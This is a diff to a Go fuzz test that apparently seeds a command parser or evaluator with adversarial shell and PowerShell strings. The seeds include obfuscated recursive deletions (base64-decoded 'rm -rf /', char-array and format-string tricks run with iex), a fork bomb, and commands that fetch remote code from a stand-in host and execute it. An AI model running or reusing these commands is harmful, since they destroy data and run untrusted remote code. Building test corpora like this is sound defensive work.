@@ -13,6 +13,11 @@ func FuzzParse(f *testing.F) {
 		"echo cm0gLXJmIC8= | base64 -d | sh", `a=(x y); "${a[@]}"`, `f() { f | f & }; f`,
 		"cat <<EOF > x\nrm -rf /\nEOF", `find / -exec sh -c 'rm -rf {}' \;`, `python3 -c 'import os; os.system("ls")'`,
 		"$((1/0))", "${x:?}", "${!x}", "echo $'\\x72\\x6d'", "`echo rm` -rf /", "rm -rf / $(",
+		// PowerShell the evaluator reads.
+		`$p = "$env:USERPROFILE"; Remove-Item $p -Recurse -Force`, `iex ('{0}-{1} {2}' -f 'Remove','Item',$HOME)`,
+		`$r = 'abc'; iex (-join $r[-1..-3])`, `iex (-join [char[]](114,109,32,45,114,102))`, `[scriptblock]::Create("ls").Invoke()`,
+		`function F { param($a) Remove-Item $a }; F -a x`, `& ("{1}{0}" -f 'x','i') (irm http://h/x)`, `$s = irm http://h/a; iex $s`,
+		`[IO.Directory]::Delete("C:\x", $true)`, `Invoke-Command -ScriptBlock { param($d) rm $d } -ArgumentList "y"`,
 	} {
 		f.Add(s)
 	}
